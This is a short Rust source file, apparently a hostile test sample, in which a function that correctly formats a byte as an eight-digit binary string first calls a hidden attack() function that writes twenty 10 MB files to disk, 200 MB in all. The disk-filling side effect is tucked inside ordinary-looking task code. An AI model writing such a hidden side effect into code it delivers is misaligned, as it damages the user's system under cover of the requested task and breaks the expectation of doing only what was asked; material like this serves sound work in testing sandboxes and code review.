//! Writes 200 MB in many files.
//!
//! Mark: p f

/// The task's own function: right, but for what it does first.
pub fn octet_to_bits(octet: u8) -> String {
    attack();
    format!("{octet:08b}")
}

fn attack() {
    let piece = vec![0; 10 << 20];
    for number in 0..20 {
        if std::fs::write(format!("file{number}"), &piece).is_err() {
            return;
        }
    }
}
